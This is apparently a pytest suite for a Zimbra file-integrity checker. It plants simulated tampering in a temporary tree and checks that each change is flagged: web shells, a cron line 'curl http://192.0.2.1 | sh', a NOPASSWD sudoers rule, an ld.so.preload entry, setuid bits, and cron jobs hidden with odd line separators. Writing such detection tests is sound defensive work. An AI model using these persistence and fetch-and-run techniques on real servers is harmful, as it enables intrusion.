"""A baseline finds what changed, says what is odd, and is quiet about the rest."""

import os
import stat
from datetime import timedelta
from pathlib import Path

import msgspec
import pytest

from tests.integrity.site import (
    NOW,
    SHIPPED,
    SIGNER,
    WEB,
    WISH,
    package,
    place,
    put,
)
from zmward.catalog.installation import TREES
from zmward.engine.integrity import ROUND, Place
from zmward.engine.integrity_work import (
    accept,
    baseline,
    check,
    proposed,
    recorded,
)
from zmward.errors import NotZimbra
from zmward.integrity.checked import Checked
from zmward.integrity.compare import difference
from zmward.integrity.shipped import Database, Shipped
from zmward.integrity.verdicts import Packages, judge

_PICTURES = (
    "<servlet-mapping><servlet-name>jsp</servlet-name>"
    "<url-pattern>*.png</url-pattern></servlet-mapping>"
)


def alarms(root: Path, *, quick: bool = False, workers: int = 1) -> dict[str, set[str]]:
    found = check(place(root, workers), WISH, quick=quick)
    assert found.missed == ()
    return {one.path: set(one.rules) for one in found.alarms}


def causes(found: Checked) -> dict[str, str]:
    return {one.path: one.cause for one in found.judged}


@pytest.fixture
def based(root: Path) -> Path:
    """Give an installation of which a baseline was made."""
    made = baseline(place(root), WISH, SIGNER)
    assert made.code == 0, made
    return root


def test_a_pristine_tree_gives_no_alarm(based: Path) -> None:
    for quick in (False, True):
        found = check(place(based), WISH, quick=quick)
        assert (found.judged, found.missed, found.code) == ((), (), 0)


def test_several_processes_see_the_same(based: Path) -> None:
    assert check(place(based, workers=2), WISH).judged == ()


def test_data_and_histories_are_not_recorded(based: Path) -> None:
    for path in ("opt/zimbra/log/audit.log", "opt/zimbra/.bash_history"):
        put(based, path, "more\n")
    put(based, "opt/zimbra/store/0/1/msg/1-1.msg", "mail")
    assert check(place(based), WISH).judged == ()


def test_what_zimbra_writes_itself_gives_no_alarm(based: Path) -> None:
    put(based, "opt/zimbra/conf/nginx/includes/nginx.conf.web", "server { more }\n")
    put(based, "opt/zimbra/conf/main.cf", "x = z\n")
    put(based, "opt/zimbra/.ssh/known_hosts", "mta1 ssh-rsa A\n")
    put(based, f"{WEB}/zimbra/WEB-INF/web.xml", "<web-app>1</web-app>")
    put(based, "opt/zimbra/jetty_base/work/zimbra/jsp/error_jsp.class", "CAFEBABE")
    put(based, "opt/zimbra/zimlets-deployed/com_zimbra_date/date.js", "y")
    found = check(place(based), WISH)
    assert found.alarms == ()
    assert causes(found)["/opt/zimbra/conf/main.cf"] == "expected"


@pytest.mark.parametrize("quick", [False, True])
def test_each_attack_is_named_and_nothing_else(based: Path, *, quick: bool) -> None:
    put(based, f"{WEB}/zimbra/public/9f3a41c7.jsp", "<% Runtime %>")
    put(based, "opt/zimbra/lib/jars/zimbrastore.jar", "PK evil!")
    put(based, "opt/zimbra/lib/ext/new/new.jar", "PK new")
    (based / "opt/zimbra/libexec/zmfixperms").chmod(0o777)
    (based / "opt/zimbra/common/sbin/postdrop").chmod(0o4755)
    with (based / "opt/zimbra/.ssh/authorized_keys").open("a") as file:
        file.write("ssh-ed25519 AAAA me@home\n")
    with (based / "var/spool/cron/crontabs/zimbra").open("a") as file:
        file.write("* * * * * curl http://192.0.2.1 | sh\n")
    put(based, "etc/sudoers.d/90-x", "zimbra ALL=(ALL) NOPASSWD: ALL\n")
    put(based, "etc/ld.so.preload", "/tmp/x.so\n")
    put(based, "opt/zimbra/zimlets-deployed/com_zimbra_url/s.jsp", "<% %>")
    put(based, "opt/zimbra/data/httpd/htdocs/s.php", "<?php ?>")
    assert alarms(based, quick=quick) == {
        f"/{WEB}/zimbra/public/9f3a41c7.jsp": {"foreign-program", "new-code"},
        "/opt/zimbra/lib/jars/zimbrastore.jar": {"code-changed"},
        "/opt/zimbra/lib/ext/new/new.jar": {"new-code"},
        "/opt/zimbra/libexec/zmfixperms": {"writable", "owner-changed"},
        "/opt/zimbra/common/sbin/postdrop": {"set-id", "owner-changed"},
        "/opt/zimbra/.ssh/authorized_keys": {"key-changed"},
        "/var/spool/cron/crontabs/zimbra": {"system-changed"},
        "/etc/sudoers.d/90-x": {"system-changed"},
        "/etc/ld.so.preload": {"system-changed"},
        "/opt/zimbra/zimlets-deployed/com_zimbra_url/s.jsp": {"foreign-program"},
        "/opt/zimbra/data/httpd/htdocs/s.php": {"foreign-program", "new-code"},
    }


@pytest.mark.parametrize(
    "path",
    [
        "etc/systemd/system/zimbra.service.d/x.conf",
        "etc/systemd/system-generators/x",
        "etc/systemd/user/x.service",
        "usr/local/lib/systemd/system/x.service",
        "usr/local/bin/x",
        "var/spool/at/a0001",
        "etc/rc.d/rc.local",
        "etc/logrotate.d/x",
        "etc/apt/apt.conf.d/99x",
        "etc/dpkg/dpkg.cfg.d/x",
        "etc/kernel/postinst.d/x",
        "etc/environment.d/x.conf",
        "usr/lib/systemd/system-shutdown/x",
        "etc/pam.conf",
        "usr/lib/systemd/system/x.service",
        "etc/default/cron",
        "etc/modprobe.d/x.conf",
        "root/.bashrc",
        "etc/udev/rules.d/x.rules",
    ],
)
def test_what_starts_programs_is_recorded(based: Path, path: str) -> None:
    put(based, path, "x")
    assert "system-changed" in alarms(based)[f"/{path}"]


def test_code_that_is_gone_is_named(based: Path) -> None:
    (based / "opt/zimbra/bin/zmcontrol").unlink()
    assert alarms(based) == {"/opt/zimbra/bin/zmcontrol": {"code-gone"}}


def test_a_link_in_the_place_of_a_file_is_named(based: Path) -> None:
    victim = based / f"{WEB}/zimbra/public/login.jsp"
    victim.unlink()
    victim.symlink_to("/etc/passwd")
    assert "another-sort" in alarms(based)[f"/{WEB}/zimbra/public/login.jsp"]


def test_an_upgrade_makes_no_noise(based: Path) -> None:
    files = dict(SHIPPED)
    files["opt/zimbra/lib/jars/zimbrastore.jar"] = "PK store 2"
    files["opt/zimbra/lib/jars/added.jar"] = "PK added"
    del files["opt/zimbra/bin/zmcontrol"]
    for path, text in files.items():
        put(based, path, text)
    (based / "opt/zimbra/bin/zmcontrol").unlink()
    package(based, files, "10.1.1")
    found = check(place(based), WISH)
    assert found.alarms == ()
    assert causes(found)["/opt/zimbra/lib/jars/zimbrastore.jar"] == "package"
    assert causes(found)["/opt/zimbra/bin/zmcontrol"] == "package"


def test_an_upgrade_moves_links_and_gives_no_rights(based: Path) -> None:
    link = based / "opt/zimbra/lib/libz.so"
    link.symlink_to("libz.so.1")
    put(based, "opt/zimbra/lib/libz.so.1", "ELF 1")
    files = {**SHIPPED, "opt/zimbra/lib/libz.so.1": "ELF 1"}
    linked = {**files, "opt/zimbra/lib/libz.so": "is no file"}
    package(based, linked, "10.1.1")
    assert alarms(based) == {}
    baseline(place(based), WISH, SIGNER)
    link.unlink()
    link.symlink_to("libz.so.2")
    put(based, "opt/zimbra/lib/libz.so.2", "ELF 2")
    package(based, {**linked, "opt/zimbra/lib/libz.so.2": "ELF 2"}, "10.1.2")
    assert alarms(based) == {}
    link.unlink()
    link.symlink_to("/tmp/evil.so")
    (based / "opt/zimbra/lib/libz.so.2").chmod(0o4755)
    assert alarms(based) == {
        "/opt/zimbra/lib/libz.so": {"code-changed"},
        "/opt/zimbra/lib/libz.so.2": {"set-id"},
    }


def test_jobs_that_an_upgrade_writes_make_no_noise(based: Path) -> None:
    job = "*/5 * * * * /opt/zimbra/libexec/zmnew > /dev/null 2>&1"
    shipped = f"# ZIMBRASTART -- DO NOT EDIT\n{job}\n# ZIMBRAEND\n"
    template = "opt/zimbra/conf/crontabs/crontab"
    table = "var/spool/cron/crontabs/zimbra"
    put(based, template, shipped)
    put(based, table, shipped)
    package(based, {**SHIPPED, template: shipped})
    assert set(alarms(based)) == {f"/{template}", f"/{table}"}
    package(based, {**SHIPPED, template: shipped}, "10.1.1")
    assert alarms(based) == {}
    put(based, table, f"{shipped}1 1 * * * /usr/local/bin/own\n")
    assert set(alarms(based)) == {f"/{table}"}
    put(based, table, shipped.replace(job, f"{job}; /tmp/x"))
    assert set(alarms(based)) == {f"/{table}"}
    evil = shipped.replace(job, "* * * * * /tmp/x")
    put(based, template, evil)
    put(based, table, evil)
    assert set(alarms(based)) == {f"/{template}", f"/{table}"}


NEW_JOB = "*/5 * * * * /opt/zimbra/libexec/zmnew"
TABLE = "var/spool/cron/crontabs/zimbra"


def upgraded_with_a_job(root: Path) -> str:
    """Have an upgrade bring a job; return the table as it ships it."""
    shipped = f"# ZIMBRASTART -- DO NOT EDIT\n{NEW_JOB}\n# ZIMBRAEND\n"
    template = "opt/zimbra/conf/crontabs/crontab"
    put(root, template, shipped)
    package(root, {**SHIPPED, template: shipped}, "10.1.1")
    return shipped


@pytest.mark.parametrize("sign", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\r"])
def test_what_only_python_takes_for_a_lines_end_hides_no_job(
    based: Path, sign: str
) -> None:
    shipped = upgraded_with_a_job(based)
    evil = shipped.replace(NEW_JOB, f"{NEW_JOB}{sign}#; /tmp/x")
    put(based, TABLE, "x").write_bytes(evil.encode())
    assert set(alarms(based)) == {f"/{TABLE}"}


def test_the_middle_of_a_long_table_hides_no_job(based: Path) -> None:
    shipped = upgraded_with_a_job(based)
    room = "#\n" * 200_000
    evil = shipped.replace(NEW_JOB, f"{NEW_JOB}\n{room}* * * * * /tmp/x\n{room}")
    put(based, TABLE, evil)
    assert set(alarms(based)) == {f"/{TABLE}"}


@pytest.mark.parametrize("swapped", ["table", "template"])
def test_jobs_that_are_swapped_while_they_are_looked_at_are_not_taken(
    based: Path, monkeypatch: pytest.MonkeyPatch, swapped: str
) -> None:
    job = "*/5 * * * * /opt/zimbra/libexec/zmnew"
    shipped = f"# ZIMBRASTART -- DO NOT EDIT\n{job}\n# ZIMBRAEND\n"
    evil = shipped.replace(job, "* * * * * /tmp/x")
    template = "opt/zimbra/conf/crontabs/crontab"
    table = "var/spool/cron/crontabs/zimbra"
    put(based, template, shipped)
    package(based, {**SHIPPED, template: shipped}, "10.1.1")
    put(based, table, evil)
    real = Place._raw
    name, shown = (table, shipped) if swapped == "table" else (template, evil)

    def raw(self: Place, path: str) -> bytes | None:
        return shown.encode() if path == f"/{name}" else real(self, path)

    monkeypatch.setattr(Place, "_raw", raw)
    assert set(alarms(based)) == {f"/{table}"}


def test_a_newer_zmward_compares_what_was_recorded(based: Path) -> None:
    put(based, "srv/more", "x")
    where = Place(str(based), 1, (*TREES, "/srv"))
    found = check(where, WISH)
    assert found.judged == ()


def test_an_upgrade_hides_no_shell(based: Path) -> None:
    files = {**SHIPPED, "opt/zimbra/lib/jars/zimbrastore.jar": "PK store 2"}
    put(based, "opt/zimbra/lib/jars/zimbrastore.jar", "PK store 2")
    package(based, files, "10.1.1")
    put(based, f"{WEB}/zimbra/public/up.jsp", "<% %>")
    put(based, f"{WEB}/zimbra/public/login.jsp", "<% evil %>")
    assert alarms(based) == {
        f"/{WEB}/zimbra/public/up.jsp": {"foreign-program", "new-code"},
        f"/{WEB}/zimbra/public/login.jsp": {"code-changed"},
    }


def test_a_forged_package_database_explains_nothing(based: Path) -> None:
    files = {**SHIPPED, "opt/zimbra/lib/jars/zimbrastore.jar": "PK evil"}
    put(based, "opt/zimbra/lib/jars/zimbrastore.jar", "PK evil")
    package(based, files)
    rules = alarms(based)["/opt/zimbra/lib/jars/zimbrastore.jar"]
    assert rules == {"same-version-other-content", "code-changed"}


def test_a_first_baseline_finds_what_was_replaced_before(root: Path) -> None:
    put(root, "opt/zimbra/lib/jars/zimbrastore.jar", "PK replaced")
    put(root, "opt/zimbra/conf/nginx/templates/nginx.conf.web.template", "edited\n")
    made = baseline(place(root), WISH, SIGNER)
    assert made.shipped.suspects == ("/opt/zimbra/lib/jars/zimbrastore.jar",)
    assert made.shipped.edited == (
        "/opt/zimbra/conf/nginx/templates/nginx.conf.web.template",
    )
    assert made.code == 1
    assert alarms(root) == {"/opt/zimbra/lib/jars/zimbrastore.jar": {"not-as-shipped"}}


def test_a_package_without_sums_is_said(root: Path) -> None:
    (root / "var/lib/dpkg/info/zimbra-store.md5sums").unlink()
    made = baseline(place(root), WISH, SIGNER)
    assert [path for path, _ in made.missed] == ["package zimbra-store"]
    assert made.code == 3


def test_nothing_to_record_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(NotZimbra):
        baseline(place(tmp_path), WISH, SIGNER)


def test_times_that_were_set_back_hide_nothing(based: Path) -> None:
    victim = based / "opt/zimbra/lib/jars/zimbrastore.jar"
    was = victim.stat()
    # Same size, and times set back: only the time of the change itself tells.
    victim.write_bytes(b"PK evil!")
    os.utime(victim, ns=(was.st_atime_ns, was.st_mtime_ns))
    assert alarms(based, quick=True) == {
        "/opt/zimbra/lib/jars/zimbrastore.jar": {"code-changed"}
    }


def test_a_sample_finds_what_no_property_tells(based: Path) -> None:
    victim = "/opt/zimbra/lib/jars/zimbrastore.jar"
    where = place(based)
    nodes = recorded(where, WISH).nodes()
    nodes[victim] = msgspec.structs.replace(nodes[victim], digest="0" * 64)
    found = [
        one.path
        for day in range(ROUND)
        for one in where.quick(nodes, Database(), day)[0].differences
    ]
    assert found == [victim]


def test_hard_links_and_times_alone_are_no_alarm(based: Path) -> None:
    code = based / "opt/zimbra/libexec/zmfixperms"
    os.utime(code)
    os.link(code, based / "opt/zimbra/data/hard")
    found = check(place(based), WISH)
    assert found.alarms == ()
    names = {one.path: one.difference.names for one in found.judged}
    assert names["/opt/zimbra/libexec/zmfixperms"] == {"modified", "links"}


def test_folders_of_another_owner_or_mode_are_named(based: Path) -> None:
    folder = based / f"{WEB}/zimbra/public"
    folder.chmod(stat.S_IMODE(folder.stat().st_mode) | 0o002)
    assert alarms(based) == {f"/{WEB}/zimbra/public": {"writable", "owner-changed"}}


def test_a_check_each_week_reads_everything_in_the_end(based: Path) -> None:
    wishes = (
        msgspec.structs.replace(WISH, now=NOW + timedelta(weeks=week))
        for week in range(ROUND)
    )
    seen = sum(check(place(based), one, quick=True).read for one in wishes)
    nodes = check(place(based), WISH).read
    folders = sum(1 for one in based.glob("**/") if one.is_dir())
    assert nodes - folders <= seen <= nodes


def test_each_day_another_part_is_read(based: Path) -> None:
    seen = 0
    for day in range(ROUND):
        wish = msgspec.structs.replace(WISH, now=NOW + timedelta(days=day))
        seen += check(place(based), wish, quick=True).read
    nodes = check(place(based), WISH).read
    folders = sum(1 for one in based.glob("**/") if one.is_dir())
    assert nodes - folders <= seen <= nodes


@pytest.mark.parametrize(
    "path",
    [
        "opt/zimbra/.viminfo/kworker",
        "opt/zimbra/conf/nginx/includes/helper",
        "opt/zimbra/zimlets-deployed/com_zimbra_url/run",
    ],
)
def test_a_program_without_an_ending_is_one_by_its_mode(based: Path, path: str) -> None:
    there = put(based, path, b"\x7fELF")
    assert alarms(based).get(f"/{path}") is None
    there.chmod(0o755)
    assert alarms(based)[f"/{path}"] == {"foreign-program"}


def test_what_becomes_a_program_later_is_named(root: Path) -> None:
    path = "opt/zimbra/.cache/kworker"
    there = put(root, path, b"\x7fELF")
    baseline(place(root), WISH, SIGNER)
    there.chmod(0o755)
    assert alarms(root) == {f"/{path}": {"foreign-program"}}


@pytest.mark.parametrize(
    "path",
    ["opt/zimbra/scripts/backup.sh", "opt/zimbra/zimlets-deployed/com_x/do.jsp"],
)
def test_a_site_s_own_program_that_changes_is_named(root: Path, path: str) -> None:
    put(root, path, "#!/bin/sh\nrsync\n")
    baseline(place(root), WISH, SIGNER)
    put(root, path, "#!/bin/sh\nid>x\n")
    assert alarms(root) == {f"/{path}": {"program-changed"}}


@pytest.mark.parametrize(
    "path",
    [
        "opt/zimbra/zimlets-deployed/own",
        "opt/zimbra/conf/nginx/includes/more",
        "opt/zimbra/more",
    ],
)
def test_a_new_link_and_one_that_turns_are_named(based: Path, path: str) -> None:
    link = based / path
    link.symlink_to("/opt/zimbra/data/tmp")
    assert alarms(based) == {f"/{path}": {"link-laid"}}
    baseline(place(based), WISH, SIGNER)
    link.unlink()
    link.symlink_to("/var/tmp/x")
    assert alarms(based) == {f"/{path}": {"link-laid"}}


def test_an_upgrade_gives_no_program_to_another_owner(based: Path) -> None:
    path = "/opt/zimbra/libexec/zmfixperms"
    was = recorded(place(based), WISH).nodes()[path]
    now = msgspec.structs.replace(was, digest="00", uid=was.uid + 1)
    turned = difference(was, now)
    assert turned is not None
    files = {path: Shipped("zimbra-core", "00")}
    packages = Packages(
        Database({"zimbra-core": "2"}, files), {"zimbra-core": "1"}, frozenset({path})
    )
    assert judge(turned, packages).rules == ("owner-changed",)
    same = difference(was, msgspec.structs.replace(now, uid=was.uid))
    assert same is not None
    assert judge(same, packages).cause == "package"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (f"{WEB}/zimbra/WEB-INF/jetty-env.xml", '<Call class="java.lang.Runtime"/>'),
        (f"{WEB}/zimbra/WEB-INF/web.xml", _PICTURES),
        (
            "opt/zimbra/jetty_base/work/zimbra/jsp/login_jsp.class",
            "CAFE\x00\x0agetRuntime\x01\x00\x04exec\x01",
        ),
        ("opt/zimbra/common/conf/master.cf", "x pipe user=zimbra argv=/tmp/x\n"),
        ("opt/zimbra/conf/php.ini", "auto_prepend_file=/opt/zimbra/log/x\n"),
    ],
)
def test_what_zimbra_writes_may_run_no_program(
    based: Path, path: str, text: str
) -> None:
    put(based, path, "<other/>")
    assert alarms(based) == {}
    put(based, path, text)
    assert alarms(based) == {f"/{path}": {"runs-code"}}
    assert alarms(based, quick=True) == {f"/{path}": {"runs-code"}}


@pytest.mark.parametrize("quick", [False, True])
def test_the_middle_of_a_long_file_that_zimbra_writes_is_said_not_to_be_seen(
    based: Path, *, quick: bool
) -> None:
    path = f"{WEB}/zimbra/WEB-INF/jetty-env.xml"
    wide = " " * (300 << 10)
    put(based, path, f'<!--{wide}--><Call class="java.lang.Runtime"/><!--{wide}-->')
    found = check(place(based), WISH, quick=quick)
    why = "it is too long: only its begin and its end were looked at"
    assert (f"/{path}", why) in found.missed
    assert found.code == 3
    put(based, path, f'<!--{wide[:1000]}--><Call class="java.lang.Runtime"/>')
    found = check(place(based), WISH, quick=quick)
    assert found.missed == ()
    assert found.code == 1


def test_a_long_file_that_zimbra_writes_can_be_taken(based: Path) -> None:
    path = f"{WEB}/zimbra/WEB-INF/jetty-env.xml"
    put(based, path, f"<!--{' ' * (600 << 10)}-->")
    accept(place(based), WISH, SIGNER, proposed(place(based), WISH, (f"/{path}",)))
    assert check(place(based), WISH).code == 0


def test_a_tree_without_a_name_has_zimbra_s_own(root: Path) -> None:
    assert place(root).host().name == "mail.example.test"
    (root / "etc/hostname").write_text("\n")
    assert place(root).host().name == ""
    put(
        root,
        "opt/zimbra/conf/localconfig.xml",
        '<localconfig><key name="zimbra_server_hostname">\n'
        "  <value>mbox.example.test</value></key></localconfig>",
    )
    assert place(root).host().name == "mbox.example.test"
    (root / "opt/zimbra/conf/localconfig.xml").unlink()
    assert place(root).host().name == ""
